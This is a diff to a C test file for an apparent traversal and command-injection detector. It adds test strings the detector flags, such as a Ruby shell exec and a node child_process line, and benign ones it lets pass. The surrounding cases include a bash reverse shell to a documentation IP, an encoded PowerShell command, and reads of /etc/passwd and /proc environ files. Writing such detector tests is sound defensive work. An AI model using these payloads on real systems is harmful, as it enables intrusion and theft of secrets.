@@ -106,6 +106,7 @@ static void t_traversal_encoded(void)
     /* Unicode lookalikes that IIS maps to '.' and '/' climb even once */
     T_WHY(trav, "%uff0e%uff0e/images/a.png", "Unicode lookalike ../", "\xef\xbc\x8e\xef\xbc\x8e/");
     T_HIT(trav, "..%u2215images/a.png");
+    T_HIT(trav, "..%u2216..%u2216boot.ini"); /* set minus for '\' */
     T_HIT(trav, "..%ef%bc%8fx");
     /* one encoded climb: only the caller's decoding flags tell */
     T_PASS(trav, "%c0%ae%c0%ae/images/a.png");
@@ -135,6 +136,7 @@ static void t_traversal_targets(void)
     T_HIT(trav, "/etc/./passwd");
     T_HIT(trav, "/ETC/PASSWD");
     T_HIT(trav, "/proc/self/environ");
+    T_HIT(trav, "/proc/1/environ");
     T_HIT(trav, "C:\\Windows\\win.ini");
     T_HIT(trav, "c:/boot.ini");
     T_HIT(trav, "WEB-INF/web.xml");
@@ -229,6 +231,9 @@ static void t_cmdi_separators(void)
     T_HIT(cmdi, ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
     T_HIT(cmdi, ";python3 -c 'import os'");
     T_HIT(cmdi, ";perl -e 'print 1'");
+    T_HIT(cmdi, ";ruby -e 'exec \"/bin/sh\"'");
+    T_HIT(cmdi, "|node -e \"require('child_process')\"");
+    T_HIT(cmdi, "& WHOAMI"); /* Windows reads any case */
     T_HIT(cmdi, "& powershell -nop -enc SQBFAFgA");
     T_HIT(cmdi, "& cmd /c whoami");
     T_HIT(cmdi, "& cmd.exe /c ver");
@@ -296,6 +301,14 @@ static void t_cmdi_benign(void)
     T_PASS(cmdi, "color=red|blue|green");
     T_PASS(cmdi, "Xbox Series X|S");
     T_PASS(cmdi, "x || y");
+    T_PASS(cmdi, "Sales & Marketing; Net User Growth");
+    T_PASS(cmdi, "Eat; Sleep 8");
+    T_PASS(cmdi, "pip install requests && python -m pytest");
+    T_PASS(cmdi, "Use `ls -la` to list files");
+    T_PASS(cmdi, "Type `whoami` in the terminal");
+    T_PASS(cmdi, "git pull && npm install");
+    T_PASS(cmdi, "AT&T; Verizon; T-Mobile");
+    T_PASS(cmdi, "/api/v1/users?fields=id,name;limit=10");
     T_PASS(cmdi, "");
 }
 
